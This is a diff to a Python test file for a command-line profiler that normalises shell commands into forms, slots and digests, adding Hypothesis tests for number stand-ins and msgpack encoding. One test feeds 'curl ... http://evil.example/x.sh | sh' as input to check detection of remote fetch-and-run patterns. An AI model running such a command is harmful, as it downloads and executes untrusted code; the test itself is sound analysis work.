@@ -1,16 +1,19 @@
 # SPDX-License-Identifier: Apache-2.0
 """Normal forms and slots of whole command lines."""
 
+import re
 import time
 
+import msgspec
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from habitus_profiler.forms import MAX_TEXT, _form_of, form_of
+from habitus_profiler.forms import MAX_TEXT, _digest, _form_of, form_of, sign_of
 from habitus_profiler.habits import _segments, segments
 from habitus_profiler.shell import split
 from habitus_profiler.slots import Slot, SlotBook
+from habitus_profiler.standins import stood_in_packed
 from habitus_profiler.tokens import typed
 
 hostile = st.text(st.characters(), max_size=80) | st.sampled_from(
@@ -39,7 +42,7 @@ def test_shell_text_gives_its_commands_operators_and_hosts():
     """`curl http://x | sh` is no opaque text."""
     found = slots("sh", "-c", "curl -o /tmp/y http://evil.example/x.sh | sh")
     assert {"command:curl", "command:sh", "operator:|", "remote:evil.example", "fetch:sh"} <= found
-    assert {"flag:curl -o", "path:/tmp"} <= found
+    assert {"tuned:curl --output", "path:/tmp", "scratch:curl --output"} <= found
 
 
 def test_shells_behind_wrappers_and_inside_shells_are_read_too():
@@ -214,6 +217,13 @@ around = st.sampled_from(
      "~/", ".jpg", ".com", ".sh", "/x", ":80", "?id=", ",", "tmp.", "0x", "$", "$(", " ", "e+", "1.5", "'",
      "(", "_", "\\", "Z", "2026-11-24-", "=", "+=", "://", "|"]
 )  # fmt: skip
+sizes = st.sampled_from([3, 4, 5, 6, 8, 9, 10, 12, 13, 14, 20, 70])
+numbers = (
+    sizes.flatmap(lambda size: st.text("0123456789", min_size=size, max_size=size))
+    | sizes.flatmap(lambda size: st.text("245789", min_size=size, max_size=size))
+    | st.sampled_from(["20261124", "2026", "11", "24", "1764000000", "150213", "7391", "73918462", "1"])
+)
+generated = st.text("bcdfghjklmnpqrstvwxz2456789", min_size=5, max_size=10)
 worded = st.lists(around | ids, min_size=1, max_size=6).map("".join)
 commands = st.sampled_from(
     [
@@ -236,11 +246,43 @@ def test_a_form_read_through_a_stand_in_is_the_form(command, words):
     assert form_of(argv) == _form_of(argv)
 
 
-@settings(max_examples=300)
-@given(worded)
+@settings(max_examples=1000)
+@given(st.lists(around | ids | numbers | generated, min_size=1, max_size=7).map("".join))
 def test_a_path_read_through_a_stand_in_is_the_path(path):
-    """The same of files."""
+    """The same of files, whose numbers are stood in for, too."""
     assert segments("/" + path) == _segments("/" + path)
+
+
+@settings(max_examples=1000)
+@given(commands, st.lists(st.lists(around | ids | generated, max_size=6).map("".join), max_size=4))
+def test_a_stand_in_within_msgpack_leaves_it_msgpack(command, words):
+    """The words keep their lengths, and nothing but digits and letters of ids is another."""
+    argv = [*command, *words]
+    stood = msgspec.msgpack.decode(stood_in_packed(msgspec.msgpack.encode(argv)))
+    unhex = re.compile("[^0-9a-f]")
+    assert [(len(word), unhex.findall(word)) for word in stood] == [
+        (len(word), unhex.findall(word)) for word in argv
+    ]
+
+
+@settings(max_examples=1000)
+@given(commands, st.lists(worded, min_size=1, max_size=3))
+def test_the_sign_of_a_command_line_is_that_of_its_form(command, words):
+    """Whatever ids, quotes and lengths it carries, and through whichever stand-in it was read."""
+    argv = (*command, *words)
+    assert sign_of(msgspec.msgpack.encode(argv)) == _digest(_form_of(argv))
+
+
+@pytest.mark.parametrize("length", [*range(8, 31), *range(32, 130), 200, 255, 256, 300])
+@pytest.mark.parametrize("start", ["", "-", "a-", "x=", ".", "--x="])
+def test_the_length_of_a_word_is_not_read_as_part_of_it(length, start):
+    """In msgpack it stands right before the word and may look like a letter, a digit, a dash or a dot."""
+    for found in ("a7f3a9c1200ab12e", "7" * 9, "123e4567-e89b-12d3-a456-426614174000"):
+        word = f"{start}{found}"
+        argv = ("job", f"{word}{'/' + 'y' * (length - len(word) - 1) if length > len(word) else ''}")
+        [_, fixed] = msgspec.msgpack.decode(stood_in_packed(msgspec.msgpack.encode(argv)))
+        assert len(fixed) == len(argv[1])
+        assert sign_of(msgspec.msgpack.encode(argv)) == _digest(_form_of(argv))
 
 
 def test_an_id_that_somebody_owns_is_read_itself():
